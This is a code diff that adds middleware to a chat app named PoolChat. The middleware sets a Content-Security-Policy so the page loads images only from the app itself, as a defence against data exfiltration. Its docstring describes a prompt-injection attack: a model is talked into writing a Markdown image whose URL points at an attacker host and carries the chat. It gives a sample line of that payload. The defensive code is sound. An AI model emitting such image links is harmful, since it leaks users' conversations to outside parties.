@@ -56,6 +56,34 @@ class BrowserIdCookie:
         return False
 
 
+class NoOutsideImages:
+    """ASGI middleware: pages load images only from PoolChat itself (and data: URLs).
+
+    Replies are Markdown, and a model can be talked into writing
+    ``![](https://attacker/?q=<the chat>)``: the browser would fetch it unasked, sending
+    the chat out. Links stay links (a click is the user's choice).
+    """
+
+    # fonts.gstatic.com: Streamlit's favicon for a Material icon (page_icon)
+    POLICY = (b"content-security-policy",
+              b"img-src 'self' data: blob: https://fonts.gstatic.com")
+
+    def __init__(self, app) -> None:
+        self.app = app
+
+    async def __call__(self, scope, receive, send) -> None:
+        if scope["type"] != "http":
+            await self.app(scope, receive, send)
+            return
+
+        async def send_with_policy(message) -> None:
+            if message["type"] == "http.response.start":
+                message = {**message, "headers": [*message.get("headers", []), self.POLICY]}
+            await send(message)
+
+        await self.app(scope, receive, send_with_policy)
+
+
 def _is_https(scope) -> bool:
     forwarded = dict(scope.get("headers", [])).get(b"x-forwarded-proto", b"")
     return scope.get("scheme") == "https" or forwarded == b"https"
@@ -87,7 +115,7 @@ PagesManager.uses_pages_directory = False
 keep_clicks()  # a click followed at once by a message is not lost (pages/clicks.py)
 
 app = st.App("app.py", routes=[Route("/api/stats.json", stats_json)],
-             middleware=[Middleware(BrowserIdCookie)])
+             middleware=[Middleware(BrowserIdCookie), Middleware(NoOutsideImages)])
 
 if __name__ == "__main__":
     st.set_page_config(page_title="PoolChat", page_icon=":material/forum:", layout="wide")
